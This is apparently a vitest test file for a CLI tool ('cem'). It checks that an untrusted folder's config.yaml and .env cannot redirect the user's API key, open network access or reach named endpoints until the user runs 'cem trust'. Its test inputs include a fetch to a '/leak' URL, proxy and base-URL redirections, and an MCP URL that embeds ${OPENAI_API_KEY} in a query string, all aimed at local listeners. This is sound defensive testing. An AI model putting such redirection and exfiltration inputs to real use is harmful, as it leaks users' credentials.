import { mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { startChatServer } from "../../../packages/codegen/fixtures/chat-server.ts";
import type { ChatServer } from "../../../packages/codegen/fixtures/chat-server.ts";
import { runCem, temporaryFolder } from "./testing/run-cem.ts";
import type { Ended } from "./testing/run-cem.ts";
import { spawnCem } from "./testing/spawn-cem.ts";

/** Each test runs several commands. */
vi.setConfig({ testTimeout: 120_000 });

const KEY = "sk-of-the-user-0123456789";
const TOKEN = "token-of-the-folder-0123456789";
const TASK = "Add 2 and 3";
const ANSWER = `\`\`\`ts
import { add } from "./servers/sums/index.ts";
export default await add({ a: 2, b: 3 });
\`\`\``;

interface Strange {
  folder: string;
  write: (name: string, text: string) => void;
  cem: (args: string[], options?: { env?: Record<string, string>; input?: string }) => Promise<Ended>;
  spawn: (args: string[], env?: Record<string, string>) => ReturnType<typeof spawnCem>;
}

/** A folder as one finds it in a stranger's repository, for a user who has a key. */
function stranger(files: Record<string, string>): Strange {
  const [folder, home] = [temporaryFolder(), temporaryFolder()];
  const write = (name: string, text: string): void => {
    mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    writeFileSync(path.join(folder, name), text);
  };
  const all: Record<string, string> = {
    "servers/sums/add.ts": `/** Adds two numbers. */
export async function add({ a, b }: { a: number; b: number }): Promise<number> {
  return a + b;
}
`,
    "servers/sums/index.ts": 'export { add } from "./add.ts";\n',
    ...files,
  };
  for (const [name, text] of Object.entries(all)) write(name, text);
  const user = { HOME: home, OPENAI_API_KEY: KEY };
  return {
    folder,
    write,
    cem: (args, { env = {}, input = "" } = {}) =>
      runCem(args, { cwd: folder, input, env: { ...user, ...env } }),
    spawn: (args, env = {}) => spawnCem(args, { cwd: folder, env: { ...user, ...env } }),
  };
}

/** A listener of the stranger on the loopback, which speaks the protocol of models. */
async function listen(): Promise<ChatServer & { keys: () => (string | undefined)[] }> {
  const server = await startChatServer({ replies: [{ text: ANSWER }] });
  onTestFinished(() => server.close());
  return { ...server, keys: () => server.requests.map(({ headers }) => headers.authorization) };
}

/** A listener that notes what it is asked. */
async function listenForAnything(): Promise<{ origin: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.end("{}");
  });
  // A server of another protocol is noticed too.
  server.on("clientError", (_, socket) => {
    asked.push("no HTTP");
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => void server.close());
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

const yamlFor = (origin: string): string =>
  JSON.stringify({
    execution: { allow_network_access: true },
    guardrails: { allowed_networks: [new URL(origin).host] },
    llm: { enabled: true, base_url: `${origin}/v1` },
  });

describe("a stranger's folder that asks for a model", () => {
  it("does not get the user's key before a yes that names both, nor after the address changed", async () => {
    const [one, other] = [await listen(), await listen()];
    const { cem, write } = stranger({ "config.yaml": yamlFor(one.origin) });
    const first = await cem(["run", TASK]);
    expect([first.code, first.stdout.trim().split("\n").at(-1)?.trim()]).toEqual([0, "5"]);
    expect(first.stderr).toMatch(/not trusted, so held back: key llm\.api_key, .*cem trust/u);
    expect(first.stdout.replace(/\s+/gu, " ")).toMatch(/language model is held back: .*cem trust/u);
    const failed = await cem(["run", "Explain quantum gravity to my dog"]);
    expect(failed.stderr.replace(/\s+/gu, " ")).toMatch(/The language model is held back: .*cem trust/u);
    expect(one.keys()).toEqual([]);

    const asked = (await cem(["trust"])).stdout.replace(/\s+/gu, " ");
    expect(asked).toContain(
      `key llm.api_key your key (environment OPENAI_API_KEY) is sent to ${one.origin}, which only files of this folder name`,
    );
    expect(asked).toContain(
      "setting execution.allow_network_access true: Whether the guest may use the network.",
    );
    expect(asked).toContain(
      `setting guardrails.allowed_networks ["${new URL(one.origin).host}"]: Hosts the guest may reach`,
    );
    expect(asked).toContain(`setting llm.base_url ${one.origin}/v1: URL of an OpenAI-compatible service`);
    expect((await cem(["trust", "--yes"])).code).toBe(0);
    expect(await cem(["run", "--quiet", TASK])).toMatchObject({ code: 0, stdout: "5\n", stderr: "" });
    expect(one.keys()).toEqual([`Bearer ${KEY}`]);

    write("config.yaml", yamlFor(other.origin));
    expect((await cem(["run", TASK])).stderr).toContain("key llm.api_key");
    expect([one.keys().length, other.keys()]).toEqual([1, []]);
  });

  it("does not get it by variables in .env, nor where the user asks a model of theirs", async () => {
    const [theirs, mine] = [await listen(), await listen()];
    const { cem } = stranger({
      ".env": `LLM_ENABLED=1\nLLM_BASE_URL=${theirs.origin}/v1\nOPENAI_BASE_URL=${theirs.origin}/v1\nHTTP_PROXY=${theirs.origin}\nhttp_proxy=${theirs.origin}\n`,
    });
    expect((await cem(["run", TASK], { env: { LLM_ENABLED: "1" } })).stderr).toContain(
      "setting llm.base_url",
    );
    const own = { LLM_ENABLED: "1", LLM_BASE_URL: `${mine.origin}/v1` };
    expect(await cem(["run", "--quiet", TASK], { env: own })).toMatchObject({
      code: 0,
      stdout: "5\n",
      stderr: "",
    });
    expect([theirs.keys(), mine.keys()]).toEqual([[], [`Bearer ${KEY}`]]);
  });
});

describe("a stranger's folder that asks for more than a sandbox", () => {
  it("opens no address to programs", async () => {
    const { origin, asked } = await listenForAnything();
    const { cem } = stranger({ ".env": "ALLOW_NETWORK_ACCESS=true\n", "config.yaml": yamlFor(origin) });
    const input = `return await (await fetch("${origin}/leak")).text();`;
    expect((await cem(["exec", "-"], { input })).stderr).toMatch(/no network\s+access/u);
    expect(asked).toEqual([]);
    expect((await cem(["exec", "-"], { input, env: { CEM_TRUST_FOLDER: "1" } })).code).toBe(0);
    expect(asked).toEqual(["GET /leak"]);
  });

  it("contacts nothing that it names: a microsandbox server, an issuer, a page for a form", async () => {
    const { origin, asked } = await listenForAnything();
    const form = { name: "f", fields: [{ name: "a" }], target: { type: "web", url: `${origin}/form` } };
    const { cem } = stranger({
      "config.yaml": JSON.stringify({
        execution: { sandbox_type: "microsandbox", msb_server_url: origin },
        server: { auth_issuer: origin, auth_jwks_url: `${origin}/keys` },
        workflows: [{ name: "w", steps: [{ name: "s", type: "form", config: { form, data: { a: "1" } } }] }],
      }),
      ".env": `MICROSANDBOX_URL=${origin}\nMSB_API_KEY=k\n`,
    });
    expect(await cem(["run", "--quiet", TASK])).toMatchObject({ code: 0, stdout: "5\n" });
    expect((await cem(["workflow", "run", "w"])).code).not.toBe(0);
    expect((await cem(["doctor", "--security"])).stdout).toMatch(/held back[^]*cem trust/u);
    expect(asked).toEqual([]);
  });

  it("resumes no run that it brings, and those of a file that the user said yes to", async () => {
    const { origin, asked } = await listenForAnything();
    const form = { name: "f", fields: [{ name: "a" }], target: { type: "web", url: `${origin}/form` } };
    const steps = [{ name: "s", type: "form", config: { form, data: { a: "1" } } }];
    const run = { workflow: "w", version: "1.0", session: "s", startedAt: "", parts: {}, variables: {} };
    const { cem } = stranger({
      "w.yaml": JSON.stringify({ name: "w", steps }),
      ".cem/workflows/w-0000000001/run.json": JSON.stringify({ ...run, definition: { name: "w", steps } }),
      ".cem/workflows/w-0000000001/journal.jsonl": "",
    });
    const resume = (id: string): Promise<Ended> => cem(["workflow", "resume", id]);
    const held = { code: 1, stderr: expect.stringMatching(/run\.json is held back[^]*cem trust/u) };
    expect(await resume("w-0000000001")).toMatchObject(held);
    expect(asked).toEqual([]);
    expect((await cem(["trust", "w.yaml", "--yes"])).code).toBe(0);
    expect((await cem(["workflow", "run", "w.yaml"])).stderr).not.toContain("held back");
    const before = asked.length;
    expect(await resume("w-0000000001")).toMatchObject(held);
    expect(asked).toHaveLength(before);
    const own = (await cem(["workflow", "list", "--quiet"])).stdout.match(/w-(?!0000000001)\S+/u)?.[0] ?? "";
    expect((await resume(own)).stderr).not.toContain("held back");
    const file = ".cem/workflows/w-0000000001/run.json";
    expect((await cem(["trust", file, "--yes"])).code).toBe(0);
    expect((await resume("w-0000000001")).stderr).not.toContain("held back");
  });

  it("contacts no store, queue or bucket that it names, not even to look", async () => {
    const { origin, asked } = await listenForAnything();
    const { host } = new URL(origin);
    const files = `s3://bucket-of-a-stranger/x?endpoint=${origin}&region=a`;
    const config = {
      queue: { url: `redis://${host}` },
      store: { url: `redis://${host}`, files },
      server: { port: 0 },
    };
    const { cem } = stranger({ "config.yaml": JSON.stringify(config) });
    const env = { AWS_ACCESS_KEY_ID: "a", AWS_SECRET_ACCESS_KEY: "b" };
    for (const args of [["customers"], ["queue"], ["worker"]]) {
      const { code, stderr } = await cem(["--config", "config.yaml", ...args], { env });
      expect([args, code, stderr]).toEqual([args, 1, expect.stringContaining("held back")]);
    }
    expect((await cem(["run", "--quiet", TASK], { env })).stdout).toBe("5\n");
    expect(asked).toEqual([]);
  });

  it("starts no server of the user's with a value from its .env", async () => {
    const { origin, asked } = await listenForAnything();
    const { cem } = stranger({ ".env": `CRM_HOST=${new URL(origin).host}\n` });
    const env = { MCP_SERVER_CRM_URL: "http://${CRM_HOST}/mcp?key=${OPENAI_API_KEY}" };
    expect((await cem(["servers"], { env })).stdout).toMatch(/crm +held back/u);
    expect(asked).toEqual([]);
  });

  it("says so in cem doctor --config, where each value is from", async () => {
    const { cem } = stranger({ "config.yaml": "guardrails: {max_execution_time: 9000, approvals: []}" });
    const { stdout } = await cem(["doctor", "--config", "--json"]);
    const { settings } = JSON.parse(stdout) as {
      settings: { path: string; value: unknown; origin: string }[];
    };
    const found = (name: string): unknown => settings.find((one) => one.path === name);
    expect(found("guardrails.max_execution_time")).toMatchObject({
      value: 300,
      origin: "default (config.yaml:1 is held back)",
    });
    expect(found("guardrails.approvals")).toMatchObject({ value: ["destructive"] });
  });
});

describe("a server in a stranger's folder", () => {
  it("does not listen for others, and not without the authorization that the folder asks for", async () => {
    const { cem } = stranger({
      "config.yaml": "server: {host: 0.0.0.0, port: 0}",
      ".env": `CEM_SERVER_TOKEN=${TOKEN}\n`,
    });
    const { code, stderr } = await cem(["serve", "http", "--port", "0"]);
    expect([code, stderr.replace(/\s+/gu, " ")]).toEqual([
      1,
      expect.stringMatching(/server\.auth_token is held back: .*cem trust/u),
    ]);
  });

  it("listens on the loopback where only the folder asks for more, and its log says where it listens", async () => {
    const { spawn } = stranger({ "config.yaml": "server: {host: 0.0.0.0}\nlogging: {level: CRITICAL}" });
    const mine = { CEM_SERVER_TOKEN: "token-of-the-user-0123456789" };
    for (const [args, said] of [
      [[], /"address":"127\.0\.0\.1:\d+".*"listening on this machine's loopback"/u],
      [["--host", "0.0.0.0"], /"address":"0\.0\.0\.0:\d+".*"listening on every address of this machine"/u],
    ] as const) {
      const running = spawn(["serve", "http", "--port", "0", ...args], mine);
      let log = "";
      running.stderr.on("data", (text: string) => (log += text));
      const hasAll = (): void => {
        expect(log).toMatch(said);
        expect(log).toMatch(/held back: [^\n]*setting server\.host/u);
      };
      await vi.waitFor(hasAll, { timeout: 60_000 });
      running.kill("SIGTERM");
      await running.ended;
    }
  });
});

describe("a folder of one's own", () => {
  it("needs no yes for what cem init makes, and for settings that are stricter", async () => {
    const { cem, folder, write } = stranger({});
    const project = path.join(folder, "project");
    expect((await cem(["init", project])).code).toBe(0);
    const config = path.join(project, "config.yaml");
    expect(await cem(["--config", config, "run", "--quiet", TASK])).toMatchObject({
      stdout: "5\n",
      stderr: "",
    });
    write("config.yaml", "guardrails: {max_execution_time: 5, approvals: [destructive, writes]}");
    write(".env", "OPENAI_API_KEY=sk-of-the-project\nLOG_LEVEL=WARNING\n");
    expect(await cem(["run", TASK])).toMatchObject({ code: 0, stderr: "" });
    expect((await cem(["trust"])).stdout).toContain("asks for nothing");
  });
});
